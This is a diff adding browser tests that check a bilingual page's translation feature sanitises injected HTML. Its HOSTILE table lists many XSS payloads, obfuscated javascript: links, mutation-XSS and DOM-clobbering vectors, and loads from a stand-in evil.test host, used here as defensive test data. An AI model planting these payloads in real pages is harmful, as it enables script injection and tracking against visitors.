@@ -1,5 +1,6 @@
 """A reader sees a page in two languages at once, where the other one is there."""
 
+import re
 import subprocess
 import sys
 import threading
@@ -8,6 +9,85 @@ from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
+#: What a stranger may put into a translation, by what it would do.
+HOSTILE = {
+    "run a script": """
+        <script>top.hurt = 1</script>
+        <img src=missing.png onerror="alert(1)">
+        <svg onload="top.hurt = 1"><script>top.hurt = 1</script></svg>
+        <svg><foreignObject><img src=x onerror=top.hurt=1></foreignObject></svg>
+        <svg><use href="data:image/svg+xml,<svg id=x onload=top.hurt=1 />#x" /></svg>
+        <!-- a comment --><details open ontoggle="top.hurt = 1">x</details>
+        <button formaction=javascript:top.hurt=1 onclick=top.hurt=1>x</button>
+        <input autofocus onfocus="top.hurt = 1">
+        <span tabindex=0 contenteditable onfocus="top.hurt = 1">x</span>
+        <b style="animation: x 1s" onanimationstart="top.hurt = 1">x</b>
+        <video src=x onerror=top.hurt=1><source src=y onerror=top.hurt=1></video>
+        <x-y is=z onclick="top.hurt = 1" slot=a part=b>x</x-y>""",
+    "run a script in a link": """
+        <a href="javascript:top.hurt = 1">x</a>
+        <a href="  JaVaScRiPt:top.hurt=1">x</a>
+        <a href="&#106;avascript&colon;top.hurt=1">x</a>
+        <a href="java&Tab;scr&NewLine;ipt:top.hurt=1">x</a>
+        <a href="&#1;javascript:top.hurt=1">x</a>
+        <a href="data:text/html,<script>top.hurt=1</script>">x</a>
+        <a href="vbscript:top.hurt=1">x</a>
+        <a href="#x" onclick="top.hurt=1">x</a><a href="http://[">x</a>
+        <svg><a xlink:href=javascript:top.hurt=1><text>hurt</text></a></svg>
+        <svg><a><animate attributeName=href values=javascript:top.hurt=1 /><text>hurt</text></a></svg>
+        <svg><a><set attributeName=href to=javascript:top.hurt=1 /><text>hurt</text></a></svg>
+        <map name=x><area href=javascript:top.hurt=1></map>""",
+    "run a script in a formula": """
+        <math href=https://evil.test/><semantics><mi>x</mi><annotation>hurt</annotation></semantics></math>
+        <math href=javascript:top.hurt=1><mi onclick=top.hurt=1>x</mi></math>
+        <math><a href=javascript:top.hurt=1><mi>x</mi></a><script>top.hurt = 1</script></math>
+        <math><maction xlink:href=javascript:top.hurt=1><mi>x</mi></maction></math>
+        <math><annotation-xml encoding=text/html>hurt<img src=x onerror=top.hurt=1></annotation-xml></math>
+        <math><mtext><table><mglyph><style><!--</style>
+        <img title="--&gt;&lt;img src=x onerror=top.hurt=1&gt;"></style></mglyph></table></mtext></math>""",
+    "run a script once it is read again": """
+        <template><img src=x onerror=top.hurt=1></template>
+        <b><template shadowrootmode=open><img src=x onerror=top.hurt=1></template></b>
+        <noscript><b title="</noscript><img src=x onerror=top.hurt=1>"></b></noscript>
+        <textarea><img src=x onerror=top.hurt=1></textarea>
+        <svg><style><a title="</style><img src=x onerror=top.hurt=1>"></style></svg>""",
+    "ask another host": """
+        <script src="https://evil.test/a.js"></script>
+        <img src=https://evil.test/a.png srcset="https://evil.test/b.png 2x">
+        <svg><image href=https://evil.test/a.png /></svg>
+        <style>* { background: url(https://evil.test/a.png) }</style>
+        <b style="background: url(https://evil.test/a.png)">x</b>
+        <link rel=stylesheet href=https://evil.test/a.css>
+        <video src=https://evil.test/a.mp4 poster=https://evil.test/a.png></video>
+        <input type=image src=https://evil.test/a.png>
+        <table background=https://evil.test/a.png></table>""",
+    "show another page": """
+        <iframe srcdoc="<script>top.hurt = 1</script>"></iframe>
+        <iframe src=https://evil.test/>hurt</iframe>
+        <select><option>hurt</option></select>
+        <object data=https://evil.test/a.html></object>
+        <embed src=https://evil.test/a.html>
+        <meta http-equiv=refresh content="0;url=https://evil.test/">
+        <form action=https://evil.test/><button>x</button></form>
+        <a href="#x" ping=https://evil.test/ target=_top download>x</a>""",
+    "move every link": "<base href=https://evil.test/>",
+    "stand for what the page is asked": """
+        <img name=querySelector><img name=querySelectorAll><b id=title name=title>x</b>
+        <a id=body name=body>x</a><form name=getElementById></form>""",
+    "stand for what a form is asked": """
+        <form><input name=childNodes><input name=attributes><input name=matches></form>
+        <form class=line><input name=closest><input name=querySelector><input name=tagName></form>""",
+    "stand for a pair": "<b class=research-pair></b><i class=research-counterpart>x</i>",
+}
+HARMLESS = (
+    '<strong class="x" lang="en" title="t">a</strong>, <a href="https://example.org/a">b</a>, '
+    '<a href="mailto:a@example.org">c</a>, <code>d</code><br>x<sup>2</sup>, '
+    '<math display="inline"><mrow><msup><mi>x</mi><mn>2</mn></msup><mo>=</mo>'
+    "<mfrac><mn>1</mn><msub><mi>y</mi><mi>i</mi></msub></mfrac></mrow></math>"
+)
+#: All that is left of the hostile elements, and of the link and the mark that stand after them.
+ELEMENTS_LEFT = {"a", "b", "i", "math", "mi", "mtext", "span"}
+ATTRIBUTES_LEFT = {"class", "href", "title"}
 BUTTON = "button.research-parallel"
 OFFERED = f"{BUTTON}:not([hidden])"
 
@@ -217,6 +297,71 @@ def test_it_is_withdrawn_with_a_message_when_fetching_fails(open_page, lost):
     page.get_by_role("status").filter(has_text="未能载入另一种语言的页面。").wait_for()
     assert page.locator(".research-pair").count() == 0
     assert page.locator(OFFERED).count() == 0
+
+
+@pytest.fixture
+def translated(site):
+    """Return what puts HTML into a heading of the Chinese page, until the test is over."""
+    page = site / "zh-cn/index.html"
+    before = page.read_text("utf-8")
+    assert before.count("<h2>一节<") == 1
+
+    def translate(html):
+        page.write_text(before.replace("<h2>一节<", f"<h2>{html}<"), "utf-8")
+
+    yield translate
+    page.write_text(before, "utf-8")
+
+
+HEADING = ".research-counterpart > h2"
+
+
+@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
+def test_nothing_from_the_other_page_can_do_harm(open_page, server, translated, html):
+    translated(f'一节 {html} <a href="deep/page.html">链接</a> <b>末尾</b>')
+    page = open_page("en/index.html")
+    before = page.inner_html("article[role=main] > section")
+    asked, dialogs = [], []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: dialogs.append(dialog.dismiss()))
+    page.route(lambda url: not url.startswith(server.address), lambda route: route.abort())
+    turn_on(page)
+    page.eval_on_selector_all(
+        f"{HEADING} *",
+        """elements => elements.forEach(element => {
+            for (const type of ["load", "error", "toggle", "focus", "animationstart"])
+                element.dispatchEvent(new Event(type));
+            if (!element.closest("[href^=http]"))
+                element.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
+        })""",
+    )
+    page.wait_for_timeout(50)
+    assert not page.evaluate("top.hurt")
+    assert not dialogs
+    assert not [url for url in asked if not url.startswith(server.address)]
+    assert page.url == f"{server.address}/en/index.html"
+    elements = page.eval_on_selector_all(f"{HEADING} *", "all => all.map(e => e.localName)")
+    assert set(elements) <= ELEMENTS_LEFT
+    attributes = page.eval_on_selector_all(
+        f"{HEADING} *", "all => all.flatMap(e => e.getAttributeNames())"
+    )
+    assert set(attributes) <= ATTRIBUTES_LEFT
+    assert not page.locator(f"{HEADING} [href]:not(a[href^=http])").count()
+    assert re.fullmatch(r"一节[\sx]*链接 末尾", page.text_content(HEADING))
+    assert page.get_by_role("link", name="链接").last.get_attribute("href") == (
+        f"{server.address}/zh-cn/deep/page.html"
+    )
+    page.click(BUTTON)
+    page.wait_for_selector(f"{BUTTON}[aria-pressed=false]")
+    assert page.inner_html("article[role=main] > section") == before
+
+
+def test_marks_links_and_formulas_from_the_other_page_stay(open_page, translated):
+    translated(HARMLESS)
+    page = open_page("en/index.html")
+    turn_on(page)
+    assert page.inner_html(HEADING).partition('<a class="research-entry-link')[0] == HARMLESS
+    assert page.eval_on_selector(f"{HEADING} mfrac", "e => e instanceof MathMLElement")
 
 
 def test_without_javascript_there_is_no_button(open_page):
